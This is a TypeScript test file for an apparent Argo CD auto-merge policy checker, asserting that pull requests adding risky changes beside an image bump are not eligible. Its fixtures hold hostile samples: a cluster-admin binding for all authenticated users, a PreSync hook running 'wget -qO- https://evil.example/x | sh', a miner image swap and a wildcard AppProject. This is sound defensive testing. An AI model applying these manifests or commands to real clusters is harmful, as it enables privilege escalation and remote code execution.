// The policy never approves what the preview did not see: each test starts from an eligible staging
// patch bump and adds one thing the preview cannot vouch for. Through dist/ against the GitHub stand-in.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exampleFiles } from '../support/examples.js';
import { startStandIn, type GitHubStandIn } from '../support/githubStandIn.js';
import { openPullRequest, runCheck } from '../support/pullRequestCheckout.js';
import { policyFile } from '../support/builders.js';

const POLICY = policyFile({
  environments: {
    staging: { paths: ['apps/*/overlays/staging/**', 'apps/web/**', 'argocd/**'], autoMerge: 'any' },
  },
  allowedPaths: ['docs/**'],
});
const STAGING = 'apps/api/overlays/staging/kustomization.yaml';

let standIn: GitHubStandIn;
let workspace: string;
beforeEach(async () => {
  standIn = await startStandIn({ ...exampleFiles(), '.slipway.yml': POLICY });
  workspace = mkdtempSync(join(tmpdir(), 'slipway-eligible-'));
});
afterEach(async () => {
  await standIn.stop();
  rmSync(workspace, { recursive: true, force: true });
});

/** The staging bump plus `more` (path → text, or a function of the old text); the comment's verdict. */
async function verdict(more: Record<string, string | ((old: string) => string)>): Promise<string> {
  const changes: Record<string, string | ((old: string) => string)> = {
    [STAGING]: (old) => old.replace('"1.4.0"', '"1.4.1"'),
    ...more,
  };
  const files = Object.fromEntries(
    Object.entries(changes).map(([path, c]) => [
      path,
      typeof c === 'string' ? c : c(standIn.repo.show('main', path) as string),
    ]),
  );
  const pr = openPullRequest(standIn, workspace, files);
  await runCheck(standIn, workspace, pr);
  const body = standIn.comments[0]?.body ?? '';
  const status = standIn.statuses.find((s) => s.sha === pr.head && s.context === 'slipway/policy');
  expect(status?.state).toBe(body.includes('eligible ✅') ? 'success' : 'failure');
  // as a reader sees it: markdown's backslash escapes (of `[`, `]` … in repository text) read
  return body.replace(/\\([[\]`*_|~$])/g, '$1');
}

const CLUSTER_ADMIN = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: everyone-is-admin}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: Group, name: "system:authenticated", apiGroup: rbac.authorization.k8s.io}]
`;

test('the staging bump alone is eligible, and so is a change under allowed-paths', async () => {
  expect(await verdict({ 'docs/runbook.md': '# runbook\n' })).toContain('**Auto-merge:** eligible ✅');
});

test('a file no app reads (a workflow) makes it not eligible', async () => {
  expect(await verdict({ '.github/workflows/deploy.yml': 'on: push\n' })).toContain(
    '- it changes .github/workflows/deploy.yml, which no previewed app reads (list it in allowed-paths to allow it)',
  );
});

test('a ClusterRoleBinding in a hidden file of a directory app is previewed, so it is not eligible', async () => {
  const body = await verdict({ 'apps/web/.rbac.yaml': CLUSTER_ADMIN });
  expect(body).toContain('- it creates ClusterRoleBinding/everyone-is-admin');
});

test('an app that is not previewed (jsonnet) or fails to render is not eligible', async () => {
  const jsonnet = await verdict({ 'apps/web/extra.jsonnet': '{ apiVersion: "v1", kind: "ConfigMap" }\n' });
  expect(jsonnet).toMatch(/- app web was not fully previewed \(apps\/web\/extra\.jsonnet: .*jsonnet/);
  standIn.comments.length = 0;
  const broken = await verdict({
    [STAGING]: (old) => `${old.replace('"1.4.0"', '"1.4.1"')}  - missing.yaml\n`,
  });
  expect(broken).toMatch(/- app api-staging was not fully previewed \(/);
});

test('retargeting an Application or changing its sync policy is not eligible', async () => {
  const body = await verdict({
    'argocd/api-staging.yaml': (old) =>
      old
        .replace('namespace: api-staging', 'namespace: kube-system')
        .replace('selfHeal: true', 'selfHeal: false'),
  });
  expect(body).toContain('- it changes the destination of app api-staging');
  expect(body).toContain('- it changes the sync policy of app api-staging');
});

test('an Application that is not previewed is not eligible when the PR touches it', async () => {
  const body = await verdict({
    'argocd/api-staging.yaml': (old) =>
      old.replace(
        'path: apps/api/overlays/staging',
        'path: apps/api/overlays/staging\n    plugin: {name: vault}',
      ),
  });
  expect(body).toMatch(
    /- app api-staging was not fully previewed \(.*config management plugin sources are not previewed/,
  );
});

test('a new Application is not eligible', async () => {
  const body = await verdict({
    'argocd/rbac.yaml': `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: rbac, namespace: argocd}
spec:
  source: {repoURL: https://github.com/acme/manifests.git, path: rbac}
  destination: {server: https://kubernetes.default.svc}
`,
    'rbac/binding.yaml': CLUSTER_ADMIN,
  });
  expect(body).toContain('- it adds app rbac');
});

// Eligibility is an allowlist: only image versions move. Each attack below was found eligible (and
// auto-merged) when eligibility looked for known-bad changes; each now names what it changes.

/** Starts the stand-in again with `files` added to (or replacing) the base's. */
async function baseWith(files: Record<string, string>): Promise<void> {
  await standIn.stop();
  standIn = await startStandIn({ ...exampleFiles(), '.slipway.yml': POLICY, ...files });
}

const NOT_ELIGIBLE = '**Auto-merge:** not eligible';

const bindingOf = (...subjects: string[]) => `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: web-readers}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects:
${subjects.map((s) => `  - {kind: Group, name: "${s}", apiGroup: rbac.authorization.k8s.io}`).join('\n')}
`;

test('ignoreDifferences added beside a bump never hides what the same PR changes, and is not eligible', async () => {
  await baseWith({ 'apps/web/rbac.yaml': bindingOf('web-admins') });
  const body = await verdict({
    'apps/web/rbac.yaml': bindingOf('web-admins', 'system:authenticated'),
    'argocd/web.yaml': (old) =>
      `${old}  ignoreDifferences:\n    - {group: rbac.authorization.k8s.io, kind: ClusterRoleBinding, jsonPointers: [/subjects]}\n`,
  });
  expect(body).toContain(NOT_ELIGIBLE);
  expect(body).toContain(
    '- it changes the definition of app web (definition: spec.ignoreDifferences changed)',
  );
  // the base's rules are not the head's: the binding is compared in full, the new subject shown
  expect(body).toMatch(
    /\+ +- apiGroup: rbac\.authorization\.k8s\.io\n\+ +kind: Group\n\+ +name: system:authenticated/,
  );
});

test('a new PreSync hook beside a bump is shown in full and is not eligible', async () => {
  const body = await verdict({
    'apps/web/hook.yaml': `apiVersion: batch/v1
kind: Job
metadata:
  name: warm-cache
  annotations: {argocd.argoproj.io/hook: PreSync}
spec:
  template:
    spec:
      restartPolicy: Never
      containers: [{name: run, image: "busybox:1.36", command: [sh, -c, "wget -qO- https://evil.example/x | sh"]}]
`,
  });
  expect(body).toContain(NOT_ELIGIBLE);
  expect(body).toMatch(/- it adds the sync hook Job\/(web\/)?warm-cache of app web/);
  expect(body).toContain('wget -qO- https://evil.example/x | sh');
});

test('an image moved to another repository is not a version update, and is not eligible', async () => {
  const body = await verdict({
    'apps/web/deployment.yaml': (old) => old.replace('nginx:1.27.0', 'docker.io/attacker/miner:1.27.1'),
  });
  expect(body).toContain(NOT_ELIGIBLE);
  expect(body).toMatch(
    /- it moves Deployment\/(web\/)?web spec\.template\.spec\.containers\[0\] to another image repository \(docker\.io\/library\/nginx → docker\.io\/attacker\/miner\)/,
  );
});

test('managedNamespaceMetadata on an app that creates its namespace is not eligible', async () => {
  const withCreate = (text: string) =>
    text.replace('selfHeal: true', 'selfHeal: true\n    syncOptions: [CreateNamespace=true]');
  await baseWith({
    'argocd/api-staging.yaml': withCreate(exampleFiles()['argocd/api-staging.yaml'] as string),
  });
  const body = await verdict({
    'argocd/api-staging.yaml': (old) =>
      old.replace(
        'syncOptions: [CreateNamespace=true]',
        'syncOptions: [CreateNamespace=true]\n    managedNamespaceMetadata:\n      labels: {pod-security.kubernetes.io/enforce: privileged}',
      ),
  });
  expect(body).toContain(NOT_ELIGIBLE);
  expect(body).toContain(
    '- it changes the definition of app api-staging (definition: spec.syncPolicy.managedNamespaceMetadata changed)',
  );
});

test('automated.allowEmpty is not eligible', async () => {
  const body = await verdict({
    'argocd/api-staging.yaml': (old) =>
      old.replace('selfHeal: true', 'selfHeal: true\n      allowEmpty: true'),
  });
  expect(body).toContain(NOT_ELIGIBLE);
  expect(body).toContain(
    '- it changes the definition of app api-staging (definition: spec.syncPolicy.automated.allowEmpty changed)',
  );
});

test('Argo CD Image Updater annotations on an Application are not eligible', async () => {
  const body = await verdict({
    'argocd/api-staging.yaml': (old) =>
      old.replace(
        '  namespace: argocd\n',
        '  namespace: argocd\n  annotations:\n    argocd-image-updater.argoproj.io/image-list: api=ghcr.io/acme/api\n    argocd-image-updater.argoproj.io/api.update-strategy: latest\n',
      ),
  });
  expect(body).toContain(NOT_ELIGIBLE);
  expect(body).toContain(
    '- it changes the definition of app api-staging (definition: metadata.annotations changed)',
  );
});

test('an AppProject added beside the Applications is not eligible', async () => {
  const body = await verdict({
    'argocd/api-staging.yaml': (old) => `${old}---
apiVersion: argoproj.io/v1alpha1
kind: AppProject
metadata: {name: open, namespace: argocd}
spec:
  sourceRepos: ["*"]
  destinations: [{server: "*", namespace: "*"}]
  clusterResourceWhitelist: [{group: "*", kind: "*"}]
`,
  });
  expect(body).toContain(NOT_ELIGIBLE);
  expect(body).toContain('- it adds AppProject argocd/open (argocd/api-staging.yaml)');
});

test('an image override of an Application that moves only the version stays eligible', async () => {
  const withOverride = (tag: string) => (text: string) =>
    text.replace(
      'path: apps/api/overlays/staging',
      `path: apps/api/overlays/staging\n    kustomize: {images: ["ghcr.io/acme/api:${tag}"]}`,
    );
  await baseWith({
    'argocd/api-staging.yaml': withOverride('1.4.0')(exampleFiles()['argocd/api-staging.yaml'] as string),
  });
  const bump = (old: string) => old.replace('ghcr.io/acme/api:1.4.0', 'ghcr.io/acme/api:1.4.1');
  expect(await verdict({ 'argocd/api-staging.yaml': bump })).toContain('**Auto-merge:** eligible ✅');
  standIn.comments.length = 0;
  const moved = await verdict({
    'argocd/api-staging.yaml': (old) => old.replace('ghcr.io/acme/api:1.4.0', 'ghcr.io/attacker/api:1.4.1'),
  });
  expect(moved).toContain(NOT_ELIGIBLE);
  expect(moved).toContain('spec.source.kustomize.images[0] changed');
});

test('an ApplicationSet changed beyond image versions is not eligible, even when it generates the same apps', async () => {
  const fleet = (extra = '') => `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {name: web-fleet, namespace: argocd}
spec:
  goTemplate: true
  generators: [{list: {elements: [{env: staging}]}}]
${extra}  template:
    metadata: {name: 'web-{{.env}}'}
    spec:
      project: default
      source: {repoURL: https://github.com/acme/manifests.git, path: apps/web}
      destination: {server: https://kubernetes.default.svc, namespace: 'web-{{.env}}'}
`;
  await baseWith({ 'argocd/web-fleet.yaml': fleet() });
  // the staging bump beside the ApplicationSet is eligible
  expect(await verdict({})).toContain('**Auto-merge:** eligible ✅');
  standIn.comments.length = 0;
  // generates the same apps, so only the ApplicationSet itself can show it
  const kept = await verdict({
    'argocd/web-fleet.yaml': fleet('  syncPolicy: {preserveResourcesOnDeletion: true}\n'),
  });
  expect(kept).toContain(NOT_ELIGIBLE);
  expect(kept).toMatch(
    /- it changes .*spec\.syncPolicy.* of ApplicationSet argocd\/web-fleet \(argocd\/web-fleet\.yaml\)/,
  );
});
